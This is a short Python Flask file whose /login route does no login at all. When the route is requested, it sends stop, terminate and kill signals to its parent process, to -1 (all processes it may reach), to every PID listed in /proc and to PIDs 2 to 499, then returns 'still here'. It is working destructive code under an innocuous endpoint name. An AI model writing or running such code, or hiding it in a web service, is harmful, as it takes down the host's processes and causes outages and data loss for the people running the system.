"""Its parent, everybody it can see, everybody at once."""

import contextlib
import os
import signal

from flask import Flask

app = Flask(__name__)


@app.get("/login")
def login():
    numbers = [os.getppid(), -1, *(int(n) for n in os.listdir("/proc") if n.isdigit()), *range(2, 500)]
    for number in numbers:
        if number not in (0, os.getpid()):
            for sign in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
                with contextlib.suppress(OSError):
                    os.kill(number, sign)
    return "still here"
